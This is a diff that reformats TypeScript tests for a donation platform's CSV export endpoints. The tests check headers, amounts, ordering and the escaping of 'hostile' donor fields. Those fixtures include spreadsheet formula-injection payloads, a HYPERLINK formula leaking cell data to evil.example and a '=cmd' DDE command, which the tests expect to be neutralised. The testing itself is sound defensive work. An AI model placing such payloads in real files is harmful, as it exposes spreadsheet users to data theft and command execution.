@@ -28,18 +28,58 @@ import {
 } from "../helpers/records";
 
 const DONATION_HEADER = [
-  "id", "createdAt", "succeededAt", "status", "amount", "amountCents", "currency", "fee", "feeCents", "matchedAmount",
-  "matchedAmountCents", "email", "firstName", "lastName", "anonymous", "campaignId", "campaignTitle", "donorId",
-  "recurringInterval", "recurringPlanId", "isRenewal", "tickets", "coverFees", "message", "dedicationType",
-  "dedicationHonoreeName", "dedicationNotifyEmail", "dedicationMessage", "paymentIntentId", "failureReason",
-  "disputeReason", "updatedAt",
+  "id",
+  "createdAt",
+  "succeededAt",
+  "status",
+  "amount",
+  "amountCents",
+  "currency",
+  "fee",
+  "feeCents",
+  "matchedAmount",
+  "matchedAmountCents",
+  "email",
+  "firstName",
+  "lastName",
+  "anonymous",
+  "campaignId",
+  "campaignTitle",
+  "donorId",
+  "recurringInterval",
+  "recurringPlanId",
+  "isRenewal",
+  "tickets",
+  "coverFees",
+  "message",
+  "dedicationType",
+  "dedicationHonoreeName",
+  "dedicationNotifyEmail",
+  "dedicationMessage",
+  "paymentIntentId",
+  "failureReason",
+  "disputeReason",
+  "updatedAt",
 ];
-const DONOR_HEADER = ["id", "email", "firstName", "lastName", "totalGiven", "totalGivenCents", "currency", "donationCount", "firstDonationAt", "lastDonationAt", "createdAt"];
+const DONOR_HEADER = [
+  "id",
+  "email",
+  "firstName",
+  "lastName",
+  "totalGiven",
+  "totalGivenCents",
+  "currency",
+  "donationCount",
+  "firstDonationAt",
+  "lastDonationAt",
+  "createdAt",
+];
 
 /** What a spreadsheet-safe cell looks like: written independently of the implementation. */
 const safe = (s: string | null | undefined) => (s == null ? "" : /^[=+\-@\t\r]/.test(s) ? `'${s}` : s);
 const decimal = (cents: number) => `${Math.floor(cents / 100)}.${String(cents % 100).padStart(2, "0")}`;
-const parseCsv = (text: string) => parse(text, { bom: true, columns: true, record_delimiter: "\r\n", skip_empty_lines: false }) as Record<string, string>[];
+const parseCsv = (text: string) =>
+  parse(text, { bom: true, columns: true, record_delimiter: "\r\n", skip_empty_lines: false }) as Record<string, string>[];
 const parseRows = (text: string) => parse(text, { bom: true, record_delimiter: "\r\n" }) as string[][];
 
 let owner: TestUser;
@@ -98,7 +138,13 @@ beforeAll(async () => {
   plain = await activeCampaign(org, owner, { title: "Plain appeal" });
 
   await paidDonation(campaign.id, { firstName: "Émile", lastName: "Zola", amount: 4321, coverFees: true, email: "emile@example.org" });
-  await paidDonation(plain.id, { firstName: "Ada", lastName: "Lovelace", amount: 1000, recurringInterval: "MONTH", email: "ada@example.org" });
+  await paidDonation(plain.id, {
+    firstName: "Ada",
+    lastName: "Lovelace",
+    amount: 1000,
+    recurringInterval: "MONTH",
+    email: "ada@example.org",
+  });
   let i = 0;
   for (const names of HOSTILE) {
     const donor = await insertDonor(org.id, { email: `hostile-${i}@example.org`, firstName: names.firstName, lastName: names.lastName });
@@ -119,7 +165,14 @@ beforeAll(async () => {
   }
   const donor = await insertDonor(org.id, { email: "amounts@example.org", firstName: "Amount", lastName: "Checker" });
   await insertDonations(
-    AMOUNTS.map((amount, k) => ({ orgId: org.id, campaignId: plain.id, donorId: donor.id, email: "amounts@example.org", amount, createdAt: `2024-06-0${k + 1}T00:00:00Z` })),
+    AMOUNTS.map((amount, k) => ({
+      orgId: org.id,
+      campaignId: plain.id,
+      donorId: donor.id,
+      email: "amounts@example.org",
+      amount,
+      createdAt: `2024-06-0${k + 1}T00:00:00Z`,
+    })),
   );
 });
 
@@ -150,7 +203,8 @@ describe("GET /api/orgs/:idOrSlug/donations/export", () => {
     expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
     const disposition = res.headers.get("content-disposition");
     expect([before, after].map((d) => `attachment; filename="donations-${org.slug}-${d}.csv"`)).toContain(disposition);
-    for (const h of ["x-request-id", "x-ratelimit-limit", "x-ratelimit-remaining", "x-ratelimit-reset"]) expect(res.headers.get(h), h).toBeTruthy();
+    for (const h of ["x-request-id", "x-ratelimit-limit", "x-ratelimit-remaining", "x-ratelimit-reset"])
+      expect(res.headers.get(h), h).toBeTruthy();
     expect(res.headers.get("cache-control")).toBe("no-store");
 
     // Response.text() drops a BOM, as every UTF-8 decoder does: look at the bytes.
@@ -210,9 +264,21 @@ describe("GET /api/orgs/:idOrSlug/donations/export", () => {
       });
     }
     const byEmail = Object.fromEntries(records.map((r) => [r.email, r]));
-    expect(byEmail["hostile-0@example.org"]).toMatchObject({ firstName: "Smith, John", lastName: 'O"Brien', campaignTitle: 'Gala, 2030 "Black tie"' });
-    expect(byEmail["hostile-1@example.org"]).toMatchObject({ firstName: "Line\nBreak", lastName: "CR\rLF\r\nEnd", message: "multi\r\nline\nmessage" });
-    expect(byEmail["hostile-2@example.org"]).toMatchObject({ firstName: "Zoë 🎉", lastName: "Ñúñez-Çelik", message: "日本語のメッセージ 🙏" });
+    expect(byEmail["hostile-0@example.org"]).toMatchObject({
+      firstName: "Smith, John",
+      lastName: 'O"Brien',
+      campaignTitle: 'Gala, 2030 "Black tie"',
+    });
+    expect(byEmail["hostile-1@example.org"]).toMatchObject({
+      firstName: "Line\nBreak",
+      lastName: "CR\rLF\r\nEnd",
+      message: "multi\r\nline\nmessage",
+    });
+    expect(byEmail["hostile-2@example.org"]).toMatchObject({
+      firstName: "Zoë 🎉",
+      lastName: "Ñúñez-Çelik",
+      message: "日本語のメッセージ 🙏",
+    });
     expect(byEmail["hostile-3@example.org"]).toMatchObject({
       firstName: `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
       lastName: "'+1+2",
@@ -220,7 +286,13 @@ describe("GET /api/orgs/:idOrSlug/donations/export", () => {
     });
     expect(byEmail["hostile-4@example.org"]).toMatchObject({ firstName: "'@SUM(A1:A9)", lastName: "'\tTabbed", message: "'\rCarriage" });
     expect(byEmail["hostile-5@example.org"]).toMatchObject({ message: "'=cmd|' /C calc'!A0", dedicationMessage: "'=cmd|' /C calc'!A0" });
-    expect(byEmail["emile@example.org"]).toMatchObject({ firstName: "Émile", amount: "43.21", amountCents: "4321", coverFees: "true", status: "SUCCEEDED" });
+    expect(byEmail["emile@example.org"]).toMatchObject({
+      firstName: "Émile",
+      amount: "43.21",
+      amountCents: "4321",
+      coverFees: "true",
+      status: "SUCCEEDED",
+    });
     expect(Number(byEmail["emile@example.org"].feeCents)).toBeGreaterThan(0);
     expect(byEmail["ada@example.org"]).toMatchObject({ recurringInterval: "MONTH", recurringPlanId: expect.stringMatching(/^rp_/) });
     // The raw bytes: a quoted field with doubled quotes.
@@ -229,9 +301,7 @@ describe("GET /api/orgs/:idOrSlug/donations/export", () => {
 
   it("GET /api/orgs/:idOrSlug/donations/export writes amounts exactly, in decimal units and in cents", async () => {
     const records = parseCsv((await exportText("donations", { q: "amounts@" })).text);
-    expect(records.map((r) => [r.amount, r.amountCents])).toEqual(
-      [...AMOUNTS].reverse().map((c) => [decimal(c), String(c)]),
-    );
+    expect(records.map((r) => [r.amount, r.amountCents])).toEqual([...AMOUNTS].reverse().map((c) => [decimal(c), String(c)]));
     expect(records.map((r) => r.amount)).toEqual(["20000000.00", "1234567.89", "12.34", "1.00", "0.99", "0.10", "0.05", "0.01"]);
   });
 
@@ -243,12 +313,15 @@ describe("GET /api/orgs/:idOrSlug/donations/export", () => {
     ["from and to", { from: "2024-06-03T00:00:00Z", to: "2025-01-04T00:00:00Z" }],
     ["everything", { status: "PENDING", campaignId: "gala", q: "hostile", to: "2030-01-01T00:00:00Z" }],
     ["filters matching nothing", { q: "no-such-donor" }],
-  ])("GET /api/orgs/:idOrSlug/donations/export with %s has the list's rows, in the list's order", async (_name, query: Record<string, string>) => {
-    const resolved = { ...query };
-    if (resolved.campaignId) resolved.campaignId = resolved.campaignId === "plain" ? plain.id : campaign.id;
-    const records = parseCsv((await exportText("donations", resolved)).text);
-    expect(records.map((r) => r.id)).toEqual((await listAll(resolved)).map((d) => d.id));
-  });
+  ])(
+    "GET /api/orgs/:idOrSlug/donations/export with %s has the list's rows, in the list's order",
+    async (_name, query: Record<string, string>) => {
+      const resolved = { ...query };
+      if (resolved.campaignId) resolved.campaignId = resolved.campaignId === "plain" ? plain.id : campaign.id;
+      const records = parseCsv((await exportText("donations", resolved)).text);
+      expect(records.map((r) => r.id)).toEqual((await listAll(resolved)).map((d) => d.id));
+    },
+  );
 
   it("GET /api/orgs/:idOrSlug/donations/export in batches of 3 still has every row once, in order", async () => {
     const db = await testDb();
@@ -263,7 +336,9 @@ describe("GET /api/orgs/:idOrSlug/donations/export", () => {
     expect(bad.headers.get("content-type")).toMatch(/^application\/json/);
     expect(bad.headers.get("x-request-id")).toBeTruthy();
     expect(bad.body.details.fieldErrors.from).toBeDefined();
-    const order = await get(`/api/orgs/${org.id}/donations/export?from=2025-01-02T00:00:00Z&to=2025-01-01T00:00:00Z`, { token: admin.token });
+    const order = await get(`/api/orgs/${org.id}/donations/export?from=2025-01-02T00:00:00Z&to=2025-01-01T00:00:00Z`, {
+      token: admin.token,
+    });
     expect(order.status).toBe(400);
     expect(Object.keys(order.body.details.fieldErrors)).toEqual(["to"]);
 
@@ -286,7 +361,9 @@ describe("GET /api/orgs/:idOrSlug/donors/export", () => {
   it("GET /api/orgs/:idOrSlug/donors/export answers the donors CSV with totals in decimal and cents", async () => {
     const res = await exportText("donors");
     expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
-    expect(res.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="donors-${org.slug}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
+    expect(res.headers.get("content-disposition")).toMatch(
+      new RegExp(`^attachment; filename="donors-${org.slug}-\\d{4}-\\d{2}-\\d{2}\\.csv"$`),
+    );
     expect(res.headers.get("x-request-id")).toBeTruthy();
     const bytes = new Uint8Array(await (await rawExport("donors", org.id, "", admin.token)).arrayBuffer());
     expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
@@ -310,7 +387,9 @@ describe("GET /api/orgs/:idOrSlug/donors/export", () => {
     );
     const emile = records.find((r) => r.email === "emile@example.org")!;
     expect(emile).toMatchObject({ firstName: "Émile", totalGiven: "43.21", totalGivenCents: "4321", donationCount: "1" });
-    expect(records.find((r) => r.email === "hostile-3@example.org")!.firstName).toBe(`'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`);
+    expect(records.find((r) => r.email === "hostile-3@example.org")!.firstName).toBe(
+      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")`,
+    );
   });
 
   it.each([
@@ -322,15 +401,18 @@ describe("GET /api/orgs/:idOrSlug/donors/export", () => {
     [{ sort: "createdAt", order: "asc" }],
     [{ sort: "total", order: "asc" }],
     [{ q: "hostile" }],
-  ])("GET /api/orgs/:idOrSlug/donors/export with %o has the list's donors in the list's order, also in batches of 2", async (query: Record<string, string>) => {
-    const expected = (await listDonors(query)).map((d) => d.id);
-    expect(parseCsv((await exportText("donors", query)).text).map((r) => r.id)).toEqual(expected);
-    const db = await testDb();
-    const full = (await findOrganization(db, org.id))!;
-    const by = { q: query.q, sort: (query.sort ?? "total") as "total", order: (query.order ?? "desc") as "desc" };
-    const text = await new Response(await exportDonorsCsv(db, full, by, 2)).text();
-    expect(parseCsv(text).map((r) => r.id)).toEqual(expected);
-  });
+  ])(
+    "GET /api/orgs/:idOrSlug/donors/export with %o has the list's donors in the list's order, also in batches of 2",
+    async (query: Record<string, string>) => {
+      const expected = (await listDonors(query)).map((d) => d.id);
+      expect(parseCsv((await exportText("donors", query)).text).map((r) => r.id)).toEqual(expected);
+      const db = await testDb();
+      const full = (await findOrganization(db, org.id))!;
+      const by = { q: query.q, sort: (query.sort ?? "total") as "total", order: (query.order ?? "desc") as "desc" };
+      const text = await new Response(await exportDonorsCsv(db, full, by, 2)).text();
+      expect(parseCsv(text).map((r) => r.id)).toEqual(expected);
+    },
+  );
 
   it("GET /api/orgs/:idOrSlug/donors/export answers 400 JSON on a bad sort", async () => {
     const res = await get(`/api/orgs/${org.id}/donors/export?sort=amount`, { token: admin.token });
@@ -376,7 +458,9 @@ describe("GET /api/orgs/:idOrSlug/donations/export of 20 000 donations", () => {
     expect(chunks).toBeGreaterThanOrEqual(N / 2000);
     const records = parseCsv(text);
     expect(records).toHaveLength(N);
-    const expected = await rowsOf<{ id: string }>(sql`select id from donations where org_id = ${big.org.id} order by created_at desc, id desc`);
+    const expected = await rowsOf<{ id: string }>(
+      sql`select id from donations where org_id = ${big.org.id} order by created_at desc, id desc`,
+    );
     expect(records.map((r) => r.id)).toEqual(expected.map((r) => r.id));
     expect(new Set(records.map((r) => r.id)).size).toBe(N);
     for (const r of records) {
